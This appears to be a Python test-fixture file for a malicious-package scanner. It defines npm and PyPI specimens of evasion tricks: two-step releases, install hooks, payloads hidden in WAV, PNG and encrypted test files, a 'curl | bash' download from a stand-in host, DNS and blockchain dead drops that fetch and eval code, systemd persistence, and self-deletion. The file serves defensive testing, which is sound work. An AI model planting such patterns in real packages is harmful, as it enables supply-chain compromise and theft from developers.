"""Evasions that are no trick of a language: where a payload stands, what runs it, and when it comes."""

from typing import Any

from tests.evasion.specimen import COMMAND, PAD, PY_STEAL, STEAL, Files, Specimen


def _manifest(**fields: object) -> str:
    """Return a package.json of the newer release, one key a line."""
    lines = ['"name": "example-package"', '"version": "1.0.1"', '"main": "index.js"']
    lines += [f'"{key}": {value}' for key, value in fields.items()]
    return "{\n  " + ",\n  ".join(lines) + "\n}\n"


def _npm(row: str, title: str, after: Files, before: Files | None = None, **more: Any) -> Specimen:
    earlier = before or {"index.js": PAD}
    return Specimen(row=row, title=title, before=earlier, after={**earlier, **after}, **more)


_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(200)
_WAV = b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00\x40\x1f\x00\x00\x40\x1f\x00\x00\x01\x00\x08\x00data\x00\x00\x00\x00"
_BUNDLE = "".join(f"function part{n}(a) {{\n  return a.map((b) => b * {n}).filter(Boolean);\n}}\n" for n in range(1200))
_CUT = _BUNDLE.index("function part600(")

SPECIMENS: tuple[Specimen, ...] = (
    # Decoy release first, weapon later; asleep first, awake later
    _npm(
        "two-step releases",
        "the file came with the release before, and is loaded now",
        {"index.js": f"require('./lib/tool');\n{PAD}"},
        before={"index.js": PAD, "lib/tool.js": STEAL},
        woken=("lib/tool.js",),
    ),
    _npm(
        "two-step releases",
        "the function came with the release before, and is called now",
        {"index.js": f"{PAD}require('./lib/tool').run();\n"},
        before={
            "index.js": PAD + "exports.tool = () => require('./lib/tool');\n",
            "lib/tool.js": f"exports.run = () => require('child_process').exec('{COMMAND}');\n",
        },
        woken=("lib/tool.js",),
    ),
    Specimen(
        row="two-step releases",
        title="the module came with the release before, and is imported now",
        ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n", "pad/tool.py": PY_STEAL},
        after={"pad/__init__.py": "WIDTH = 2\nfrom pad import tool\n", "pad/tool.py": PY_STEAL},
        woken=("pad/tool.py",),
    ),
    # Hooks
    _npm("hooks", "a lifecycle script", {"package.json": _manifest(scripts='{"postinstall": "node lib/set.js"}'), "lib/set.js": STEAL}),
    _npm("hooks", "a script in a shell's words", {"package.json": _manifest(scripts=f'{{"preinstall": "{COMMAND}"}}')}),
    _npm("hooks", "binding.gyp alone", {"binding.gyp": '{"targets": [{"target_name": "a", "sources": ["<!(node lib/set.js)"]}]}\n', "lib/set.js": STEAL}),
    _npm("hooks", "a dependency by address", {"package.json": _manifest(dependencies='{"pad-tool": "https://stage.invalid/pad.tgz"}')}),
    # Odd containers
    _npm("odd containers", "a sound with code behind its end", {"a.wav": _WAV + STEAL.encode() * 3, "index.js": f"eval(require('fs').readFileSync(__dirname + '/a.wav').slice(44).toString());\n{PAD}"}),
    _npm("odd containers", "a library with the name of a picture", {"logo.png": _ELF, "index.js": f"process.dlopen({{ exports: {{}} }}, __dirname + '/logo.png');\n{PAD}"}),
    _npm("odd containers", "a test file that is decrypted", {
        "test/data.txt": "9f8e7d6c5b4a3928" * 60,
        "index.js": "const c = require('crypto');\nconst d = c.createDecipheriv('aes-256-cbc', process.env.npm_package_description, Buffer.alloc(16));\n"
        f"eval(d.update(require('fs').readFileSync(__dirname + '/test/data.txt', 'utf8'), 'hex', 'utf8'));\n{PAD}"}),
    # Second runtime, dead drops, persistence, deletion
    _npm("second runtime", "another runtime is fetched and started", {"package.json": _manifest(scripts='{"preinstall": "node lib/set.js"}'), "lib/set.js": "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://bun.sh.invalid/install | bash');\nexecSync('bun run ./lib/bundle.js');\n", "lib/bundle.js": STEAL}),
    _npm("dead drops", "an address out of a contract of a chain", {"index.js": f"fetch('https://mainnet.infura.io.invalid/v3/x', {{ method: 'POST', body: '{{\"method\":\"eth_call\"}}' }}).then((r) => r.json()).then((j) => fetch(Buffer.from(j.result, 'hex').toString())).then((r) => r.text()).then((t) => new Function(t)());\n{PAD}"}),
    _npm("dead drops", "an answer that only the name service gives", {"index.js": f"require('dns').resolveTxt('x.stage.invalid', (e, r) => eval(r.flat().join('')));\n{PAD}"}),
    _npm("persistence", "a unit that starts it again", {"index.js": f"require('fs').writeFileSync(require('os').homedir() + '/.config/systemd/user/pad.service', '[Service]\\nExecStart=/bin/sh -c \"{COMMAND}\"');\n{PAD}"}),
    _npm("self-deletion", "the manifest is swapped afterwards", {"package.json": _manifest(scripts='{"postinstall": "node lib/set.js"}'), "lib/set.js": f"{STEAL}const fs = require('fs');\nfs.unlinkSync(__filename);\nfs.renameSync('package.md', 'package.json');\n", "package.md": "{}\n"}),
    # Amount
    Specimen(
        row="large files", title="in the middle of a bundle", before={"index.js": _BUNDLE},
        after={"index.js": _BUNDLE[:_CUT] + f"require('child_process').exec('{COMMAND}');\n" + _BUNDLE[_CUT:]},
    ),
    _npm("large files", "larger than anything that is read", {"index.js": f"require('./big');\n{PAD}", "big.js": "x();\n" * (4 << 20) + STEAL}, unread=True),
    _npm("large files", "one line of a hundred thousand letters", {"index.js": f"var pad = '{'x' * 100_000}';require('child_process').exec('{COMMAND}');{PAD}"}),
)  # fmt: skip
